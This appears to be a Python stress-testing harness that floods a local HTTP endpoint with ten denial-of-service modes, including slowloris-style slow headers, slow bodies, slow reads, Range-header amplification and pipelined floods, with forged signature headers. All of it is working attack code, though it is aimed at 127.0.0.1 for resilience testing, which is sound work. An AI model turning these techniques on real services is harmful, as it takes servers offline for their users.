"""One sender without a secret, in a process of its own: attacker.py MODE PORT CONNECTIONS [SOURCE].

It keeps so many connections open, opens new ones for those that are ended, and does on each what
its mode says, from the address SOURCE. The last four are the modes of slowhttptest. It ends when
its input does. Its priority is low: on a machine that it shares, it takes what the attacked leave.
"""

import os
import resource
import select
import socket
import sys
import time

OPENED_AT_ONCE = 200
IP_BIND_ADDRESS_NO_PORT = 24
PACE_S = 0.25  # between two bytes of a slow sender, for the first of all connections
PROBE = b'{"test":"test"}'
SIGNED = (b"X-Pinless-Timestamp: %d\r\nX-Pinless-Signature: " +
          b"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\r\n")


def post(headers=b"", length=None, body=b""):
    framing = b"Content-Length: %d\r\n" % (len(body) if length is None else length)
    return b"POST /api/dial HTTP/1.1\r\nHost: x\r\n" + headers + framing + b"\r\n" + body


def signed():
    return SIGNED % (time.time() * 1000)


def chunked():
    return (b"POST /api/dial HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" +
            b"fff0\r\n" + b" " * 65000)


PIPELINE = post(body=PROBE) * 500
# What is sent first, what then drips, and whether answers are read.
MODES = {
    "unread": (lambda: PIPELINE, b"", False),
    "idle": (lambda: post(body=PROBE), b"", True),
    "flood": (lambda: PIPELINE, PIPELINE, True),
    "bodies": (lambda: post(signed(), 65000, b" " * 64000), b"", True),
    "chunks": (chunked, b"", True),
    "silent": (lambda: b"", b"", True),
    "slow-headers": (lambda: post()[:-2], b"X-A: b\r\n", True),
    "slow-body": (lambda: post(signed(), 8192), b" ", True),
    "slow-read": (lambda: PIPELINE[:4096], b"", False),
    "range": (lambda: b"HEAD / HTTP/1.1\r\nHost: x\r\nRange: bytes=0-" +
              b",".join(b"5-%d" % i for i in range(500)) + b"\r\n\r\n", b"", True),
}


class Attacker:
    def __init__(self, mode, port, connections, source="127.0.0.1"):
        self.first, self.drip, self.reads = MODES[mode]
        self.port, self.wanted, self.source = port, connections, source
        self.epoll, self.open = select.epoll(), {}
        self.made, self.is_flood = 0, mode == "flood"

    def connect(self):
        connection = socket.socket()
        if not self.reads:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        connection.setblocking(False)
        connection.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        connection.bind((self.source, 0))
        connection.connect_ex(("127.0.0.1", self.port))
        self.open[connection.fileno()] = [connection, self.first()]
        events = select.EPOLLOUT | (select.EPOLLIN if self.reads else select.EPOLLRDHUP)
        self.epoll.register(connection.fileno(), events)
        self.made += 1

    def end(self, number):
        self.epoll.unregister(number)
        self.open.pop(number)[0].close()

    def go_on(self, number, events):
        connection, rest = self.open[number]
        try:
            if events & (select.EPOLLERR | select.EPOLLHUP | select.EPOLLRDHUP):
                raise ConnectionError
            if events & select.EPOLLIN and not connection.recv(65536):
                raise ConnectionError
            if events & select.EPOLLOUT and rest:
                rest = rest[connection.send(rest):]
                rest = rest or (self.drip if self.is_flood else b"")
                self.open[number][1] = rest
            if not rest:
                self.epoll.modify(number, select.EPOLLIN if self.reads else select.EPOLLRDHUP)
        except BlockingIOError:
            pass
        except OSError:
            self.end(number)

    def drip_all(self):
        for number, (connection, rest) in list(self.open.items()):
            if not rest:
                try:
                    connection.send(self.drip)
                except BlockingIOError:
                    pass
                except OSError:
                    self.end(number)

    def run(self):
        dripped = time.monotonic()
        while not select.select([sys.stdin], [], [], 0)[0]:
            for _ in range(min(OPENED_AT_ONCE, self.wanted - len(self.open))):
                self.connect()
            for number, events in self.epoll.poll(0.02, 1000):
                if number in self.open:
                    self.go_on(number, events)
            if self.drip and not self.is_flood and time.monotonic() - dripped > PACE_S * 8:
                dripped = time.monotonic()
                self.drip_all()
        print(f"made {self.made}, open {len(self.open)}", flush=True)
        os._exit(0)  # closing thousands one by one would take as long again


if __name__ == "__main__":
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    os.nice(10)
    Attacker(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), *sys.argv[4:]).run()
